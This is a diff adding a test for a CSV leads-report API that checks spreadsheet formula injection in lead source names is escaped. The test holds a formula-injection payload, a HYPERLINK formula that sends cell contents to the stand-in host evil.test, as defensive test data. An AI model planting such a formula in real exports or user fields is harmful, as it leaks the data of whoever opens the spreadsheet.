@@ -197,6 +197,23 @@ describe("GET /api/reports/leads.csv", () => {
     );
   });
 
+  it("neutralises a lead source name that a spreadsheet would run as a formula", async () => {
+    const hostileWs = (await createWorkspace(db)).id;
+    const hostileAdmin = { userId: (await createMember(db, { workspaceId: hostileWs, role: "admin" as const })).userId, workspaceId: hostileWs, role: "admin" as const };
+    const [hostile] = await db.insert(leadSources).values({ workspaceId: hostileWs, name: '=HYPERLINK("http://evil.test/?"&A1,"x")' }).returning();
+    const [atSign] = await db.insert(leadSources).values({ workspaceId: hostileWs, name: "@SUM(1+1)" }).returning();
+    await lead(hostileWs, "2025-05-05T09:00", hostile!.id);
+    await lead(hostileWs, "2025-05-05T10:00", atSign!.id);
+    actAs(hostileAdmin);
+    const response = await get("from=2025-05-05&to=2025-05-05&bucket=day");
+    expect(response.status).toBe(200);
+    expect(await response.text()).toBe(
+      '"Period start","Source","Leads"\r\n' +
+        `"2025-05-05","'=HYPERLINK(""http://evil.test/?""&A1,""x"")","1"\r\n` +
+        `"2025-05-05","'@SUM(1+1)","1"\r\n`,
+    );
+  });
+
   it("answers 401 without a session", async () => {
     actAs(null);
     const response = await get("from=2025-05-05&to=2025-05-06");
